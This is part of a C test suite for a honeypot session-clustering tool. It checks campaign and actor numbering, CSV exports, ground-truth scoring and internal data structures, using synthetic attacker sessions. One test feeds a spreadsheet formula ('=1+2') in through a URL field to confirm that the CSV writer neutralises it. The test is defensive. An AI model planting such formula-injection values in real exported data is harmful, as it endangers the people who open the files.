    CHECK_EQ_INT(ap_cluster_summary_of(c)->kept_campaign_ids, 3);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->kept_actor_ids, 3);
    ap_cluster_free(c);

    /* --fresh: links recomputed without the last run's groups, numbers still matched */
    ap_cluster_options o;
    ap_cluster_options_init(&o);
    o.fresh = 1;
    c = run(st, &o);
    snapshot(c, after);
    CHECK(!memcmp(before, after, sizeof before));
    CHECK_EQ_INT(ap_cluster_summary_of(c)->kept_campaign_ids, 3);
    ap_cluster_free(c);

    /* a new campaign after that continues the counter */
    const sess late[] = {
        {"b80000000009", "100.67.0.10", 40 * H, 30, 4, NULL, NULL, NULL, 0, url_w, SHA_D},
        {"b80000000010", "100.68.0.10", 41 * H, 30, 4, NULL, NULL, NULL, 0, url_w, SHA_D},
    };
    ingest_sessions(st, "stable3.json", late, sizeof late / sizeof late[0]);
    c = run(st, NULL);
    CHECK_EQ_INT(at(c, "b80000000009").campaign, 4);
    CHECK_EQ_INT(at(c, "b80000000010").actor, 4);
    CHECK_EQ_INT(at(c, stable_sids[6]).campaign, 3);
    ap_cluster_free(c);
    ap_store_close(st);
}

/* ---- 9 and 10. CSV outputs and the truth score --------------------------------------------- */

static int line_count(const char *s)
{
    int n = 0;
    for (; *s; s++)
        n += *s == '\n';
    return n;
}

static void test_csv_and_eval(void)
{
    /* a campaign of two incidents at 10:00 and 12:30 that only download (T1105,
     * command-and-control, criticality 8): score = 2 x 8 / 3 hours */
    const sess v[] = {
        {"c90000000001", "203.0.113.91", 10 * H, 30, 1, NULL, NULL, NULL, 0, "=1+2", SHA_A},
        {"c90000000002", "192.0.2.92", 12 * H + 1800, 30, 1, NULL, NULL, NULL, 0, "=1+2", SHA_A},
        {"c90000000003", "198.18.9.93", 13 * H, 30, 2, NULL, NULL, NULL, 0, NULL, NULL},
    };
    ap_store *st = open_store("csv.db");
    ingest_sessions(st, "csv.json", v, sizeof v / sizeof v[0]);

    /* eval before any cluster run (a dry run stores nothing) */
    const char *truth = path_in("truth.csv");
    write_text(truth, "sensor,session,actor,campaign\n"
                      "hp1,c90000000001,a,c\n"
                      "hp1,c90000000002,a,c\n"
                      "hp1,c90000000003,b,d\n"
                      "hp1,c9000000000f,noise,noise\n"
                      "hp1,zzzzzzzzzzzz,z,y\n");
    ap_eval_report rep;
    char err[512] = "";
    CHECK_EQ_INT(ap_eval_truth(st, truth, AP_EVAL_ACTOR, NULL, NULL, &rep, err, sizeof err),
                 AP_ERR_NOT_FOUND);
    CHECK(err[0] != '\0');
    ap_cluster_options o;
    ap_cluster_options_init(&o);
    o.dry_run = 1;
    ap_cluster *c = run(st, &o);
    ap_cluster_free(c);
    CHECK_EQ_INT(ap_eval_truth(st, truth, AP_EVAL_ACTOR, NULL, NULL, &rep, err, sizeof err),
                 AP_ERR_NOT_FOUND);

    c = run(st, NULL);
    int64_t i1 = row_id(st, "c90000000001"), i2 = row_id(st, "c90000000002"),
            i3 = row_id(st, "c90000000003");
    CHECK_EQ_INT(at(c, "c90000000001").campaign, 1);
    CHECK_EQ_INT(at(c, "c90000000002").actor, 1);
    CHECK_EQ_INT(at(c, "c90000000003").campaign, 0);
    CHECK_EQ_INT(ap_cluster_campaign_count(c), 1);
    const ap_campaign *k = ap_cluster_campaign_at(c, 0);
    CHECK(k != NULL);
    if (k) {
        CHECK_EQ_INT(k->id, 1);
        CHECK_EQ_INT(k->actor, 1);
        CHECK_EQ_INT(k->incidents, 2);
        CHECK_EQ_INT(k->sessions, 2);
        CHECK_EQ_INT(k->ips, 2);
        CHECK_EQ_INT(k->first_us, (BASE + 10 * H) * 1000000);
        CHECK_EQ_INT(k->last_us, (BASE + 12 * H + 1830) * 1000000);
        CHECK(NEAR(k->duration_hours, 3));
        CHECK(NEAR(k->criticality, 8));
        CHECK(NEAR(k->score, 16.0 / 3.0));
        CHECK_EQ_STR(k->primary_tactic, "command-and-control");
        CHECK_EQ_STR(k->techniques, "T1105");
        CHECK_EQ_STR(k->urls, "=1+2");
        CHECK(k->nets && strstr(k->nets, "203.0.113.0/24") && strstr(k->nets, "192.0.2.0/24"));
        /* the campaign table lists the file hashes the incidents have in common */
        CHECK(k->hashes && strstr(k->hashes, SHA_A) != NULL);
        if (k->hashes && !strstr(k->hashes, SHA_A))
            fprintf(stderr, "  campaign hashes = \"%s\" (downloaded shasum missing)\n", k->hashes);
    }

    /* the CSV files */
    char outdir[4300];
    snprintf(outdir, sizeof outdir, "%s/out", dir);
    char cmd[4400];
    snprintf(cmd, sizeof cmd, "mkdir -p '%s'", outdir);
    CHECK_EQ_INT(system(cmd), 0);
    OK(ap_cluster_write_csv(c, outdir, err, sizeof err));
    char p[4400], want[512];
    snprintf(p, sizeof p, "%s/sessions.csv", outdir);
    char *text = read_all(p);
    CHECK(text != NULL);
    if (text) {
        CHECK(!strncmp(text, "sensor,session,incident,campaign,actor\n", 39));
        CHECK_EQ_INT(line_count(text), 4);
        snprintf(want, sizeof want, "\nhp1,c90000000001,I-%lld,C-1,A-1\n", (long long)i1);
        CHECK(strstr(text, want) != NULL);
        snprintf(want, sizeof want, "\nhp1,c90000000002,I-%lld,C-1,A-1\n", (long long)i2);
        CHECK(strstr(text, want) != NULL);
        snprintf(want, sizeof want, "\nhp1,c90000000003,I-%lld,,\n", (long long)i3);
        CHECK(strstr(text, want) != NULL);
        free(text);
    }
    snprintf(p, sizeof p, "%s/campaign_clusters.csv", outdir);
    text = read_all(p);
    CHECK(text != NULL);
    if (text) {
        CHECK(!strncmp(text, "incident_id,campaign\n", 21));
        CHECK_EQ_INT(line_count(text), 4);
        snprintf(want, sizeof want, "\nI-%lld,C-1\n", (long long)i1);
        CHECK(strstr(text, want) != NULL);
        snprintf(want, sizeof want, "\nI-%lld,\n", (long long)i3);
        CHECK(strstr(text, want) != NULL);
        free(text);
    }
    snprintf(p, sizeof p, "%s/campaigns.csv", outdir);
    text = read_all(p);
    CHECK(text != NULL);
    if (text) {
        const char *hdr = "campaign,actor,incidents,sessions,shared_ttps,ips,nets,asns,keys,hashes,"
                          "urls,first_seen,last_seen,primary_tactic,criticality,duration_hours,"
                          "campaign_score\n";
        CHECK(!strncmp(text, hdr, strlen(hdr)));
        CHECK_EQ_INT(line_count(text), 2);
        const char *row = text + strlen(hdr);
        CHECK(!strncmp(row, "C-1,A-1,2,2,T1105,2,\"", 21)); /* nets hold "; ": quoted */
        CHECK(strstr(row, ",'=1+2,") != NULL);               /* the formula neutralised */
        CHECK(strstr(row, ",=1+2") == NULL);
        CHECK(strstr(row, ",2024-03-01T10:00:00.000000Z,2024-03-01T12:30:30.000000Z,"
                          "command-and-control,8,3,5.3333\n") != NULL);
        free(text);
    }
    /* an output directory that does not exist */
    snprintf(p, sizeof p, "%s/no/such/dir", dir);
    err[0] = '\0';
    CHECK_EQ_INT(ap_cluster_write_csv(c, p, err, sizeof err), AP_ERR_IO);
    CHECK(strstr(err, "sessions.csv") != NULL);
    ap_cluster_free(c);

    /* the stored result against the truth: perfect, noise left out, one session missing */
    OK(ap_eval_truth(st, truth, AP_EVAL_ACTOR, NULL, NULL, &rep, err, sizeof err));
    CHECK_EQ_INT(rep.truth_rows, 5);
    CHECK_EQ_INT(rep.noise, 1);
    CHECK_EQ_INT(rep.missing, 1);
    CHECK_EQ_INT(rep.scored, 4);
    CHECK_EQ_INT(rep.truth_clusters, 3);
    CHECK_EQ_INT(rep.predicted_clusters, 3);
    CHECK(NEAR(rep.bcubed_precision, 1) && NEAR(rep.bcubed_recall, 1) && NEAR(rep.bcubed_f1, 1));
    CHECK(NEAR(rep.pair_precision, 1) && NEAR(rep.pair_recall, 1));
    CHECK(NEAR(rep.ari, 1));
    OK(ap_eval_truth(st, truth, AP_EVAL_CAMPAIGN, NULL, NULL, &rep, err, sizeof err));
    CHECK(NEAR(rep.bcubed_f1, 1));
    CHECK_EQ_INT(rep.scored, 4);

    /* a truth that puts the lone session with the campaign: recall drops by hand-computed amounts
     * (B-cubed recall (2/3 + 2/3 + 1/3 + 1) / 4 = 2/3; pairs: 1 of 3 true pairs found) */
    const char *truth2 = path_in("truth2.csv");
    write_text(truth2, "session,actor,sensor\n"
                       "c90000000001,a,hp1\n"
                       "c90000000002,a,hp1\n"
                       "c90000000003,a,hp1\n"
                       "zzzzzzzzzzzz,z,hp1\n");
    OK(ap_eval_truth(st, truth2, AP_EVAL_ACTOR, NULL, NULL, &rep, err, sizeof err));
    CHECK_EQ_INT(rep.scored, 4);
    CHECK_EQ_INT(rep.noise, 0);
    CHECK_EQ_INT(rep.missing, 1);
    CHECK(NEAR(rep.bcubed_precision, 1));
    CHECK(NEAR(rep.bcubed_recall, 2.0 / 3.0));
    CHECK(NEAR(rep.pair_precision, 1));
    CHECK(NEAR(rep.pair_recall, 1.0 / 3.0));
    /* --level campaign without a campaign column */
    err[0] = '\0';
    CHECK_EQ_INT(ap_eval_truth(st, truth2, AP_EVAL_CAMPAIGN, NULL, NULL, &rep, err, sizeof err),
                 AP_ERR_ARG);
    CHECK(strstr(err, "campaign") != NULL);
    CHECK_EQ_INT(ap_eval_truth(st, path_in("none.csv"), AP_EVAL_ACTOR, NULL, NULL, &rep, err,
                               sizeof err),
                 AP_ERR_IO);
    ap_store_close(st);
}

/* ---- 11. internals --------------------------------------------------------------------------- */

static void test_tokens_and_containers(void)
{
    uint64_t t = cl_token(TK_NET, UINT64_MAX);
    CHECK_EQ_INT(cl_token_kind(t), TK_NET);
    CHECK_EQ_INT(cl_token_kind(cl_token(TK_KEY, 0)), TK_KEY);
    CHECK(cl_token(TK_KEY, 0) != 0);
    CHECK(cl_token(TK_URL, 12344) != cl_token(TK_HOST, 12344));
    CHECK(cl_kind_strong(TK_KEY) && cl_kind_strong(TK_TAG) && !cl_kind_strong(TK_NGRAM) &&
          !cl_kind_strong(TK_NET));
    CHECK(cl_kind_actor_level(TK_KEY) && cl_kind_actor_level(TK_CLIENTKEY) &&
          cl_kind_actor_level(TK_WALLET) && !cl_kind_actor_level(TK_URL) &&
          !cl_kind_actor_level(TK_TAG));

    uint64_t v[] = {5, 3, 5, 1, 3, UINT64_MAX, 0, 1};
    size_t n = cl_sort_unique(v, 8);
    CHECK_EQ_INT(n, 5);
    CHECK(v[0] == 0 && v[1] == 1 && v[2] == 3 && v[3] == 5 && v[4] == UINT64_MAX);
    uint64_t one[] = {7};
    CHECK_EQ_INT(cl_sort_unique(one, 1), 1);
    CHECK_EQ_INT(cl_sort_unique(NULL, 0), 0);
    uint64_t same[] = {9, 9, 9};
    CHECK_EQ_INT(cl_sort_unique(same, 3), 1);
    CHECK(same[0] == 9);

    cl_u64v a = {0};
    int pushed = 0;
    for (uint64_t i = 0; i < 3000; i++)
        pushed += cl_u64v_push(&a, i * 3) == AP_OK;
    CHECK_EQ_INT(pushed, 3000);
    CHECK_EQ_INT(a.n, 3000);
    CHECK(a.v[2999] == 8997);
    cl_u64v_free(&a);
    CHECK(a.v == NULL && a.n == 0);

    cl_dsu u;
    OK(cl_dsu_init(&u, 6));
    for (uint32_t i = 0; i < 6; i++)
        CHECK_EQ_INT(cl_dsu_find(&u, i), i);
    CHECK_EQ_INT(cl_dsu_union(&u, 3, 5), 1);
    CHECK_EQ_INT(cl_dsu_find(&u, 5), 3); /* the smaller index is the representative */
    CHECK_EQ_INT(cl_dsu_union(&u, 5, 3), 0);
    CHECK_EQ_INT(cl_dsu_union(&u, 5, 1), 1);
    CHECK_EQ_INT(cl_dsu_find(&u, 3), 1);
    CHECK_EQ_INT(cl_dsu_find(&u, 5), 1);
    CHECK_EQ_INT(cl_dsu_union(&u, 4, 0), 1);
    CHECK_EQ_INT(cl_dsu_find(&u, 4), 0);
    CHECK_EQ_INT(cl_dsu_find(&u, 2), 2);
    CHECK_EQ_INT(cl_dsu_union(&u, 0, 3), 1);
    for (uint32_t i = 0; i < 6; i++)
        CHECK_EQ_INT(cl_dsu_find(&u, i), i == 2 ? 2 : 0);
    cl_dsu_free(&u);
    CHECK(u.parent == NULL);
    OK(cl_dsu_init(&u, 0));
    cl_dsu_free(&u);
}

static void set_prev(cl_data *d, int64_t session, int64_t inc, int64_t camp, int64_t actor)
{
    uint32_t *slot = ap_idmap_put(&d->prev_idx, (uint64_t)session, (uint32_t)d->nprev, NULL);
    CHECK(slot != NULL);
    if (!slot)
        return;
    *slot = (uint32_t)d->nprev;
    d->prev[d->nprev][0] = inc;
    d->prev[d->nprev][1] = camp;
    d->prev[d->nprev][2] = actor;
    d->nprev++;
}

static void test_assign_ids(void)
{
    /* five sessions (row ids 10..14) in four incidents: {10, 11}, {12}, {13}, {14} */
    cl_data d;
    cl_data_init(&d);
    d.nsessions = 5;
    d.sessions = calloc(5, sizeof *d.sessions);
    d.order = malloc(5 * sizeof *d.order);
    d.nincidents = 4;
    d.incidents = calloc(4, sizeof *d.incidents);
    d.prev = malloc(8 * sizeof *d.prev);
    d.prev_cap = 8;
    if (!d.sessions || !d.order || !d.incidents || !d.prev) {
        CHECK(0);
        cl_data_free(&d);
        return;
    }
    for (uint32_t i = 0; i < 5; i++) {
        d.sessions[i].id = 10 + i;
        d.order[i] = i;
    }
    const uint32_t first[4] = {0, 2, 3, 4}, cnt[4] = {2, 1, 1, 1};
    const int64_t start[4] = {100, 50, 300, 10};
    for (int i = 0; i < 4; i++) {
        d.incidents[i].first = first[i];
        d.incidents[i].n = cnt[i];
        d.incidents[i].start_us = start[i];
        d.incidents[i].id = 10 + first[i];
    }
    /* last run: sessions 10, 11, 12 were campaign 5; session 13 campaign 9; 14 nothing */
    set_prev(&d, 10, 10, 5, 0);
    set_prev(&d, 11, 10, 5, 0);
    set_prev(&d, 12, 12, 5, 0);
    set_prev(&d, 13, 13, 9, 0);

    /* components {0}, {1}, {2, 3}: component 0 overlaps 5 most (2 sessions) and takes it;
     * component 1 gets a new number; {2, 3} inherits 9 */
    const uint32_t comp[4] = {0, 1, 2, 2};
    uint8_t elig[4] = {1, 1, 1, 1};
    int64_t ids[4] = {-1, -1, -1, -1}, next = 20;
    uint64_t kept = 99;
    OK(cl_assign_ids(&d, comp, elig, CL_PREV_CAMPAIGN, &next, ids, &kept));
    CHECK_EQ_INT(ids[0], 5);
    CHECK_EQ_INT(ids[1], 20);
    CHECK_EQ_INT(ids[2], 9);
    CHECK_EQ_INT(ids[3], 9);
    CHECK_EQ_INT(next, 21);
    CHECK_EQ_INT(kept, 2);

    /* no previous actor numbers: all new, numbered by first activity ({2,3} starts at 10,
     * {1} at 50, {0} at 100) */
    next = 1;
    OK(cl_assign_ids(&d, comp, elig, CL_PREV_ACTOR, &next, ids, &kept));
    CHECK_EQ_INT(ids[0], 3);
    CHECK_EQ_INT(ids[1], 2);
    CHECK_EQ_INT(ids[2], 1);
    CHECK_EQ_INT(ids[3], 1);
    CHECK_EQ_INT(next, 4);
    CHECK_EQ_INT(kept, 0);

    /* not eligible: no number, and its overlap does not take one */
    elig[0] = 0;
    next = 20;
    OK(cl_assign_ids(&d, comp, elig, CL_PREV_CAMPAIGN, &next, ids, &kept));
    CHECK_EQ_INT(ids[0], 0);
    CHECK_EQ_INT(ids[1], 5); /* now component 1 is the only one overlapping 5 */
    CHECK_EQ_INT(ids[2], 9);
    CHECK_EQ_INT(next, 20);
    CHECK_EQ_INT(kept, 2);

    /* a component takes one number: component 0 overlaps 5 (x2) and 9 (x1) and keeps 5, so 9
     * goes to component 2 */
    const uint32_t comp2[4] = {0, 0, 2, 3};
    uint8_t all[4] = {1, 1, 1, 1};
    d.prev[2][1] = 9; /* session 12 now campaign 9: component 0 has 5 x2 and 9 x1 */
    next = 30;
    OK(cl_assign_ids(&d, comp2, all, CL_PREV_CAMPAIGN, &next, ids, &kept));
    CHECK_EQ_INT(ids[0], 5);
    CHECK_EQ_INT(ids[1], 5);
    CHECK_EQ_INT(ids[2], 9); /* session 13 (component 2) keeps 9 */
    CHECK_EQ_INT(ids[3], 30);
    CHECK_EQ_INT(kept, 2);
    cl_data_free(&d);
}

/* Cowrie session ids are unique per sensor only: the same id on two sensors is two sessions,
 * kept apart in the result, the CSV and the truth join. */
static void test_two_sensors(void)
{
    const sess v[] = {
        {"0a0000000001", "203.0.113.101", 10 * H, 30, 1, NULL, NULL, NULL, 0,
         "http://198.51.100.101/a", SHA_A},
        {"0a0000000001", "192.0.2.102", 11 * H, 30, 1, NULL, NULL, NULL, 0,
         "http://198.51.100.101/a", SHA_A},
        {"0a0000000002", "198.18.1.103", 12 * H, 30, 2, NULL, NULL, NULL, 0, NULL, NULL},
    };
    const char *const sensors[] = {"hp1", "hp2", "hp2"};
    ap_store *st = open_store("sensors.db");
    ingest_sessions_on(st, "sensors.json", v, sensors, sizeof v / sizeof v[0]);
    ap_cluster *c = run(st, NULL);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->sessions, 3);
    int seen = 0;
    for (size_t i = 0; i < 3; i++) {
        ap_cluster_session s;
        ap_cluster_session_at(c, i, &s);
        if (!strcmp(s.session, "0a0000000001")) {
            seen |= !strcmp(s.sensor, "hp1") ? 1 : !strcmp(s.sensor, "hp2") ? 2 : 4;
            CHECK_EQ_INT(s.campaign, 1);
        } else {
            CHECK_EQ_STR(s.sensor, "hp2");
            CHECK_EQ_INT(s.campaign, 0);
        }
    }
    CHECK_EQ_INT(seen, 3);
    ap_cluster_free(c);
    const char *truth = path_in("sensors-truth.csv");
    write_text(truth, "sensor,session,actor\n"
                      "hp1,0a0000000001,a\n"
                      "hp2,0a0000000001,a\n"
                      "hp2,0a0000000002,b\n");
    ap_eval_report rep;
    char err[256] = "";
    OK(ap_eval_truth(st, truth, AP_EVAL_ACTOR, NULL, NULL, &rep, err, sizeof err));
    CHECK_EQ_INT(rep.scored, 3);
    CHECK_EQ_INT(rep.missing, 0);
    CHECK(NEAR(rep.bcubed_f1, 1));
    write_text(truth, "sensor,session,actor\n"
                      "hp1,0a0000000001,a\n"
                      "hp3,0a0000000001,a\n");
    OK(ap_eval_truth(st, truth, AP_EVAL_ACTOR, NULL, NULL, &rep, err, sizeof err));
    CHECK_EQ_INT(rep.missing, 1); /* no such session on hp3 */
    ap_store_close(st);
}

/* An empty store clusters to nothing, writes header-only CSVs, and still has nothing to score. */
static void test_empty(void)
{
    ap_store *st = open_store("empty.db");
    ap_cluster *c = run(st, NULL);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->sessions, 0);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->incidents, 0);
    CHECK_EQ_INT(ap_cluster_campaign_count(c), 0);
    CHECK(ap_cluster_campaign_at(c, 0) == NULL);
    char outdir[4300], p[4400], cmd[4400], err[256] = "";
    snprintf(outdir, sizeof outdir, "%s/empty-out", dir);
    snprintf(cmd, sizeof cmd, "mkdir -p '%s'", outdir);
    CHECK_EQ_INT(system(cmd), 0);
    OK(ap_cluster_write_csv(c, outdir, err, sizeof err));
    snprintf(p, sizeof p, "%s/campaign_clusters.csv", outdir);
    char *text = read_all(p);
    CHECK(text && !strcmp(text, "incident_id,campaign\n"));
    free(text);
    ap_cluster_free(c);
    const char *truth = path_in("empty-truth.csv");
    write_text(truth, "sensor,session,actor\nhp1,x,a\n");
    ap_eval_report rep;
    CHECK_EQ_INT(ap_eval_truth(st, truth, AP_EVAL_ACTOR, NULL, NULL, &rep, err, sizeof err),
                 AP_ERR_NOT_FOUND);
    ap_store_close(st);
}

int main(void)
{
    snprintf(dir, sizeof dir, "%s", check_tmpdir("cluster"));
    if (ap_mapper_open(NULL, &mapper) != AP_OK) {
        fprintf(stderr, "cannot open the mapper\n");
        return 2;
    }
    test_tokens_and_containers();
    test_assign_ids();
    test_incidents();
    test_strong_download();
    test_actor_key();
    test_script();
    test_generic();
    test_infrastructure();
    test_stable_ids();
    test_csv_and_eval();
    test_two_sensors();
    test_empty();
    ap_mapper_close(mapper);
    CHECK_DONE();
}
